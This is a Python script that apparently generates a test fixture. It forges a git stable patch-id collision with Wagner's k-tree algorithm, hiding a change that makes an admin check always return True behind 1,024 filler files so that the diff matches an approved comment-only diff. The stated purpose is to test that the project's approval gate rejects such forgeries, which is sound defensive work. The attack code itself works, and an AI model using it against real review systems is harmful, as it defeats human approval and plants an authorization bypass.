#!/usr/bin/env python3
"""Forges a `git patch-id` collision with Wagner's k-tree algorithm.

Why this exists: signoff once bound a range request (`request --range`) to
the stable patch id of its diff. In stable mode git hashes each file of the
diff with SHA-1 and *adds* the hashes as 160-bit little-endian numbers
(builtin/patch-id.c, flush_one_hunk). A sum of hashes falls to a generalised
birthday search: with 2^10 lists of 2^15 candidates each, ten rounds of
merging cancel 15 bits at a time and leave about 32 solutions for the last
25 bits. This script finds 1,024 filler files that, added to a diff turning
`return user.is_admin` into `return True`, give the patch id of a
comment-only diff a lead approved.

The test (`tests/it/attack_binding.rs`,
`forged_patch_id_collision_is_stale_and_names_the_files`) never
searches: it reads `collision.json`, writes the files, commits them, checks
with `git patch-id` that the ids really collide, and checks that the gate
refuses the forged range.

Run once: `python3 make.py > collision.json` (98 s of CPU on one core,
about 180 MB of memory; it found 26 solutions and keeps the first).
The model of patch-id is checked against the real `git patch-id` before the
search, and the forged diff is checked with git after it.
"""

import hashlib
import json
import os
import subprocess
import sys
import tempfile
import time

BITS = 160
MOD = 1 << BITS
LEVELS = 10  # 2^10 = 1,024 filler files
WIDTH = 15  # bits cancelled per merge; lists of 2^15
PER_LIST = 1 << WIDTH
FILLERS = 1 << LEVELS
MODE = "--verbatim"  # what signoff ran: stable, whitespace kept

BASE = '''"""Access checks for the admin pages."""


def can_view_admin(user):
    # Only administrators may see the admin pages.
    return user.is_admin
'''
APPROVED = BASE.replace(
    "# Only administrators may see the admin pages.",
    "# Only administrators may see the admin pages (see docs/access.md).",
)
EVIL = BASE.replace("return user.is_admin", "return True")
AUTH = "app/auth.py"


def filler_path(i):
    return f"filler/{i:04}.txt"


def filler_text(c):
    return f"{c}\n"


def file_hashes(diff, verbatim=True):
    """Per-file SHA-1s as git's stable patch-id computes them (no binary,
    no mode-only changes: the diffs here have neither)."""
    hashes = []
    ctx = None
    before = after = -1
    for raw in diff.splitlines(keepends=True):
        line = raw
        if line.startswith("diff "):
            if ctx is not None:
                hashes.append(ctx.digest())
            ctx = hashlib.sha1()
            before = after = -1
        elif ctx is None:
            continue
        elif line.startswith("\\ "):
            if verbatim:
                ctx.update(line.encode())
            continue
        if before == -1:
            if line.startswith("index "):
                continue
            if line.startswith("--- "):
                before = after = 1
        if before == 0 and after == 0 and line.startswith("@@ -"):
            before, after = hunk_counts(line)
            continue
        if line[0] in "- ":
            before -= 1
        if line[0] in "+ ":
            after -= 1
        data = line if verbatim else "".join(line.split())
        ctx.update(data.encode())
    if ctx is not None:
        hashes.append(ctx.digest())
    return hashes


def hunk_counts(line):
    old, new = line.split(" ")[1:3]
    count = lambda s: int(s.split(",")[1]) if "," in s else 1
    return count(old[1:]), count(new[1:])


def as_number(digest):
    return int.from_bytes(digest, "little")


def patch_id(hashes):
    return (sum(as_number(h) for h in hashes) % MOD).to_bytes(20, "little").hex()


def git(repo, *args, stdin=None):
    env = dict(os.environ, GIT_CONFIG_NOSYSTEM="1", HOME=repo)
    return subprocess.run(
        ["git", "-C", repo, *args],
        input=stdin,
        capture_output=True,
        check=True,
        env=env,
    ).stdout


def git_patch_id(repo, diff, mode):
    return git(repo, "patch-id", mode, stdin=diff).split()[0].decode()


def write(repo, path, text):
    full = os.path.join(repo, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "w", encoding="utf-8") as f:
        f.write(text)


def commit(repo, message):
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@example.com",
        "commit", "-q", "-m", message)
    return git(repo, "rev-parse", "HEAD").decode().strip()


def diff(repo, a, b):
    # The options signoff passed before the fix (src/range.rs).
    return git(repo, "diff", "--no-color", "--no-ext-diff", "--no-textconv",
               "--binary", "--full-index", a, b)


def branch(repo, base, files):
    git(repo, "checkout", "-q", "--detach", base)
    for path, text in files.items():
        write(repo, path, text)
    return commit(repo, "change")


def check_model(repo, base):
    """The model must agree with git on real diffs, in both stable modes."""
    samples = [
        {AUTH: APPROVED},
        {AUTH: EVIL},
        {AUTH: EVIL, filler_path(0): filler_text(7), filler_path(1): filler_text(12345)},
        {AUTH: APPROVED + "\n\ndef  spaced ( x ) :\n\treturn x\n", "b c.txt": "no newline"},
    ]
    for files in samples:
        head = branch(repo, base, files)
        d = diff(repo, base, head)
        for mode, verbatim in (("--verbatim", True), ("--stable", False)):
            ours = patch_id(file_hashes(d.decode(), verbatim))
            theirs = git_patch_id(repo, d, mode)
            if ours != theirs:
                sys.exit(f"model disagrees with git patch-id {mode}: {ours} != {theirs}")


def leaves(i):
    """The candidates for filler file i: (value, index) with value its hash."""
    path = filler_path(i)
    prefix = hashlib.sha1(
        f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n".encode()
    )
    out = []
    for c in range(PER_LIST):
        h = prefix.copy()
        h.update(f"+{filler_text(c)}".encode())
        out.append(int.from_bytes(h.digest(), "little"))
    return out


def merge(left, right, level):
    """Pairs whose sum is zero on the bits below (level + 1) * WIDTH; at the
    last level, on all 160 bits."""
    lv, lp = left
    rv, rp = right
    last = level == LEVELS - 1
    shift = level * WIDTH
    mask = MOD - 1 if last else (1 << WIDTH) - 1
    shift = 0 if last else shift
    table = {}
    for k, v in enumerate(lv):
        table.setdefault((v >> shift) & mask, []).append(k)
    vals, provs = [], []
    for k, v in enumerate(rv):
        want = (-(v >> shift)) & mask
        for j in table.get(want, ()):
            vals.append((lv[j] + v) % MOD)
            provs.append(lp[j] + rp[k])
    return vals, provs


def tree(lo, hi, target):
    """Solutions over filler files lo..hi (a power of two), depth first."""
    if hi - lo == 1:
        vals = leaves(lo)
        if lo == 0:
            vals = [(v - target) % MOD for v in vals]
        return vals, [c.to_bytes(2, "little") for c in range(PER_LIST)]
    mid = (lo + hi) // 2
    left = tree(lo, mid, target)
    right = tree(mid, hi, target)
    level = (hi - lo).bit_length() - 2
    return merge(left, right, level)


def main():
    start = time.time()
    with tempfile.TemporaryDirectory() as repo:
        git(repo, "init", "-q", "-b", "main")
        write(repo, AUTH, BASE)
        base = commit(repo, "base")
        check_model(repo, base)
        approved_head = branch(repo, base, {AUTH: APPROVED})
        approved = diff(repo, base, approved_head)
        target_id = git_patch_id(repo, approved, MODE)
        evil_head = branch(repo, base, {AUTH: EVIL})
        (evil_hash,) = file_hashes(diff(repo, base, evil_head).decode())
        target = (int.from_bytes(bytes.fromhex(target_id), "little") - as_number(evil_hash)) % MOD
        print(f"searching for {FILLERS} fillers, lists of {PER_LIST}", file=sys.stderr)
        vals, provs = tree(0, FILLERS, target)
        if not vals:
            sys.exit("no solution this time: widen WIDTH")
        prov = provs[0]
        fillers = [int.from_bytes(prov[2 * i:2 * i + 2], "little") for i in range(FILLERS)]
        files = {AUTH: EVIL}
        files.update({filler_path(i): filler_text(c) for i, c in enumerate(fillers)})
        forged_head = branch(repo, base, files)
        forged = git_patch_id(repo, diff(repo, base, forged_head), MODE)
        if forged != target_id:
            sys.exit(f"forged diff has patch id {forged}, not {target_id}")
        print(f"found {len(vals)} solutions in {time.time() - start:.0f} s; "
              f"patch id {forged}", file=sys.stderr)
    json.dump({
        "patch_id": target_id,
        "mode": MODE,
        "auth_path": AUTH,
        "base": BASE,
        "approved": APPROVED,
        "evil": EVIL,
        "filler_path": "filler/{:04}.txt",
        "filler_text": "{}\\n",
        "fillers": fillers,
        "seconds": round(time.time() - start),
    }, sys.stdout, indent=1)
    print()


if __name__ == "__main__":
    main()
